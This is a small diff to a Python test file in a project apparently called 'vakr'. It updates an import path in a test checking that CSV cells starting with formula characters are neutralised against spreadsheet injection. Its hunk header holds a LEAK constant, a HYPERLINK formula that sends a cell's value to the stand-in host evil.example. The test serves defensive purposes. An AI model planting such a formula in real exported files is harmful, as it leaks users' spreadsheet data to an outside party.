@@ -227,7 +227,7 @@ LEAK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")'
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(project: Path, start: str) -> None:
     from vakr.ingest.load import load_site
-    from vakr.opendata import PLAN_FIELDS, csv_bytes, json_bytes, plan_records
+    from vakr.publish.opendata import PLAN_FIELDS, csv_bytes, json_bytes, plan_records
 
     plan = project / "data" / PLAN
     text = plan.read_text(encoding="utf-8")
